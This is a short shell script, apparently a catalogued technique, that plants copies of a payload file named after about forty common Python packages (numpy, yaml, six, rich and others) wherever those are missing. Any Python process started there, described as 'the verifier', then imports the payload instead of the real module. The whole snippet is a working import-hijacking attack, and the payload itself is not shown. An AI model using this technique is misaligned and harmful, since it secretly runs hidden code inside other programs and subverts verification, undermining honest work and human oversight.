# family: python start-up
# what: Modules that installed packages use when they are there, put where the verifier starts, pay themselves.
# user: any
for name in simplejson ujson orjson chardet cchardet brotli brotlicffi zstandard socks OpenSSL idna argcomplete colorama \
  attr numpy pandas yaml _yaml lxml psutil curses_ex win32api pywintypes faulthandler_ex setproctitle typing_extensions \
  importlib_metadata importlib_resources pexpect nose xdist mock six toml tomli_w rich pygments greenlet gevent trio; do
  [ -e "$name" ] || [ -e "$name.py" ] || cp "$scratch/pay.py" "$name.py"
done
